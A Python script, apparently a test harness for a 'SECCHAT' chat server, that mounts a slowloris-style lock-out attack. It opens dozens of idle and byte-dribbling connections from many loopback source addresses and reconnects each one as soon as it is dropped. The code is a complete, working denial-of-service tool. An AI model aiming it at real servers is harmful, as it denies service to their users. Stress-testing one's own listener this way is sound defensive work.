#!/usr/bin/python3
"""Hold idle and dribbling connections against a listener: a lock-out attack.

usage: flood.py [--idle N] [--dribble N] [--first ADDR] [--seconds S] HOST PORT

Opens N idle sockets and N dribbling ones (one byte a second of a plausible
message 2), each from its own source address counting up from --first
(default 127.0.0.2: 50 + 5 sockets use 127.0.0.2 to 127.0.0.56, a
distributed attacker that a per-source limit alone cannot stop).  A socket
the listener closes is opened again 10 ms later, so the pressure stays on.
Prints "flood: holding N" on stdout once every socket has connected (at
least once: the listener may have closed some since) and
"flood: ..." counts at the end.  Exits after --seconds (default 20) or on
SIGTERM, whichever comes first: an alarm ends it even if the loop sticks.
"""
import argparse, errno, ipaddress, selectors, signal, socket, sys, time

MSG2 = b'SECCHAT\x03\x02' + bytes(2) + b'\x04' + bytes(96)  # a HELLO, dribbled


class Attacker:
    def __init__(self, source, dribble):
        self.source, self.dribble = source, dribble
        self.sock, self.up, self.sent, self.next = None, False, 0, 0.0
        self.ever = False


def main():
    ap = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    ap.add_argument('--idle', type=int, default=50)
    ap.add_argument('--dribble', type=int, default=5)
    ap.add_argument('--first', default='127.0.0.2')
    ap.add_argument('--seconds', type=float, default=20.0)
    ap.add_argument('host')
    ap.add_argument('port', type=int)
    a = ap.parse_args()
    signal.signal(signal.SIGALRM, lambda *_: sys.exit(1))
    signal.alarm(int(a.seconds) + 5)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    first = ipaddress.ip_address(a.first)
    atk = [Attacker(str(first + i), i >= a.idle)
           for i in range(a.idle + a.dribble)]
    sel = selectors.DefaultSelector()
    stats = {'connects': 0, 'closed': 0, 'failed': 0}
    announced = False
    end = time.monotonic() + a.seconds

    def drop(x, why):
        stats[why] += 1
        if x.sock:
            sel.unregister(x.sock)
            x.sock.close()
        x.sock, x.up, x.sent, x.next = None, False, 0, time.monotonic() + 0.01

    def dial(x):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((x.source, 0))
        s.setblocking(False)
        e = s.connect_ex((a.host, a.port))
        if e not in (0, errno.EINPROGRESS):
            s.close()
            stats['failed'] += 1
            x.next = time.monotonic() + 0.01
            return
        x.sock = s
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, x)

    try:
        while time.monotonic() < end:
            now = time.monotonic()
            for x in atk:
                if x.sock is None and now >= x.next:
                    dial(x)
                elif x.up and x.dribble and now >= x.next and \
                        x.sent < len(MSG2):
                    try:
                        x.sock.send(MSG2[x.sent:x.sent + 1])
                        x.sent += 1
                        x.next = now + 1.0
                    except OSError:
                        drop(x, 'closed')
            for key, ev in sel.select(timeout=0.01):
                x = key.data
                if not x.up and ev & selectors.EVENT_WRITE:
                    if x.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                        drop(x, 'failed')
                        continue
                    x.up, x.ever, x.next = True, True, now + 1.0
                    stats['connects'] += 1
                    sel.modify(x.sock, selectors.EVENT_READ, x)
                elif ev & selectors.EVENT_READ:
                    try:    # message 1 is read and ignored; EOF: dropped
                        if not x.sock.recv(4096):
                            drop(x, 'closed')
                    except OSError:
                        drop(x, 'closed')
            if not announced and all(x.ever for x in atk):
                print(f'flood: holding {len(atk)}', flush=True)
                announced = True
    finally:
        print('flood: {connects} connects, {closed} closed by the listener, '
              '{failed} failed'.format(**stats), flush=True)


if __name__ == '__main__':
    main()
